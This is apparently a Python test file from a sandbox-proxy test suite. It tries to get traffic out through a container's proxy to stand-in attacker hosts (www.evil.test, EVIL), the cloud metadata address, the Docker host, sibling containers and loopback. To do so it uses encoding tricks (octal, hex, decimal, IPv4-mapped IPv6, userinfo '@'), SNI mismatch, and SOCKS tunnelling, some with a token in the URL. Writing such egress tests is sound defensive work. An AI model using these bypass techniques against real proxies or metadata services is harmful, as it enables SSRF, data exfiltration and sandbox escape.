"""A proxy in the container, which connects with more rights than its clients have. Without a sandbox a careless one
stands there, to show that each request works."""
import socket
import struct

from common import *

AWF = "github/gh-aw-firewall, network-security.test.ts"
SPELLING = "anthropic-experimental/sandbox-runtime, canonical-host-routing.test.ts"


def through(id, source, target, seen, sentence, inner=None, open=""):
    def send():
        with dial(*PROXY) as sock:
            sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            reply = listen(sock, 2)
            if b" 200" not in reply:
                raise SystemExit(repr(reply[:80]))
            if inner:
                tls(None, None, inner, get(inner), sock=sock)
            else:
                sock.sendall(get("x"))
                listen(sock)
    send.__doc__ = sentence
    row(f"proxy.{id}", source, seen, open=open)(send)


through("address", AWF, f"{EVIL}:8080", "evil:8080 raw", "CONNECT to the attacker's address.")
through("name", AWF, "www.evil.test:443", "evil:443 raw", "CONNECT to the attacker's name.")
through("other_port", "anthropic-experimental/sandbox-runtime#274; gh-aw-firewall, adversarial battery A5", "api.example:22", "api:22 raw", "CONNECT to a listed host's other port.")
through("metadata", AWF, "169.254.169.254:80", "metadata:80 raw", "CONNECT to the metadata service.")
through("gateway", AWF, f"{GATEWAY}:2375", "gateway:2375 raw", "CONNECT to the host.")
through("sibling", "Squid's to_localhost and friends", f"{SIBLING}:5432", "sibling:5432 raw", "CONNECT to another container.")
through("ipv6", AWF, f"[{EVIL6}]:8080", "evil:8080 raw", "CONNECT to the attacker's IPv6 address.")
through("mapped", "RFC 4291, 2.5.5.2", f"[::ffff:{EVIL}]:8080", "evil:8080 raw", "CONNECT to an IPv4 address in IPv6 clothes.")
through("decimal", SPELLING, f"{int.from_bytes(socket.inet_aton(EVIL), 'big')}:8080",
        "evil:8080 raw", "CONNECT to an address written as one number.")
through("octal", "CVE-2021-28918 (netmask): octal octets", "0313.0.0161.0102:8080", "evil:8080 raw",
        "CONNECT to an address with octal parts.")
through("hexadecimal", SPELLING, "0xcb.0.0x71.0x42:8080", "evil:8080 raw", "CONNECT to an address with hexadecimal parts.")
through("loopback", SPELLING, "127.0.0.1:7777", "loopback:7777 raw", "CONNECT to a service of the container's own.")
through("loopback6", "Squid's to_localhost", "[::1]:7777", "loopback:7777 raw", "CONNECT to a service of the container's own over IPv6.")
through("loopback_short", SPELLING, "127.1:7777", "loopback:7777 raw", "CONNECT to a service of the container's own, by a short form.")
through("userinfo", "Tsai: A New Era of SSRF (2017)", f"api.example:443@{EVIL}:8080", "evil:8080 raw",
        "CONNECT to a listed name that is only the credentials of another.")
through("mismatch", f"{AWF} (a different SNI); UKGovernmentBEIS/inspect_k8s_sandbox#208", "shared.example:443",
        f"shared:443 tls sni={TENANT}", "CONNECT to a listed name, and another tenant's in the hello.", inner=TENANT)
through("plain_inside", "anthropic-experimental/sandbox-runtime, connect-non-tls.test.ts", "shared.example:443", "shared:443 raw",
        "CONNECT to a listed name, and plain text in the tunnel.")


@row("proxy.absolute", AWF, "evil:80 raw")
def _():
    """A plain request for the attacker's name."""
    tell(*PROXY, f"GET http://www.evil.test/{TOKEN} HTTP/1.1\r\nHost: www.evil.test\r\n\r\n".encode())


@row("proxy.absolute_mismatch", "Host of Troubles (CCS 2016)", "evil:80 raw")
def _():
    """A plain request for the attacker's name, with a listed one as Host."""
    tell(*PROXY, f"GET http://www.evil.test/{TOKEN} HTTP/1.1\r\nHost: api.example\r\n\r\n".encode())


@row("proxy.listed_port", "anthropic-experimental/sandbox-runtime#274", "api:8080 raw")
def _():
    """A plain request for a listed host's other port."""
    tell(*PROXY, f"GET http://api.example:8080/{TOKEN} HTTP/1.1\r\nHost: api.example\r\n\r\n".encode())


@row("proxy.socks", "ALL_PROXY in github/gh-aw-firewall tests", "evil:8080 raw")
def _():
    """SOCKS on the proxy's port."""
    with dial(*PROXY) as sock:
        sock.sendall(b"\5\1\0")
        listen(sock)
        sock.sendall(b"\5\1\0\1" + socket.inet_aton(EVIL) + struct.pack(">H", 8080))
        listen(sock)
        sock.sendall(T + b"\n")
        listen(sock)
